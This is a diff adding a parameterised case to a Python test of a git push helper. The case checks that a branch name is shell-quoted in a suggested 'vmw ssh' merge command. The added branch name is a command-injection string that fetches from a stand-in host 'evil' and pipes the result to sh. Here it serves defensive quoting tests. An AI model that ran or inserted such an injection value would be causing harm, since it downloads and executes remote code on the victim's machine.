@@ -278,6 +278,11 @@ def test_git_pull(
             "one has host/main, host/x. Merge there, for example with:",
             "vmw ssh one -- git -C repo merge host/main\n",
         ),
+        (
+            ["a;curl${IFS}evil|sh"],
+            "one has host/a;curl${IFS}evil|sh. Merge there, for example with:",
+            """vmw ssh one -- git -C repo merge ''"'"'host/a;curl${IFS}evil|sh'"'"''\n""",
+        ),
     ],
 )
 def test_git_push(
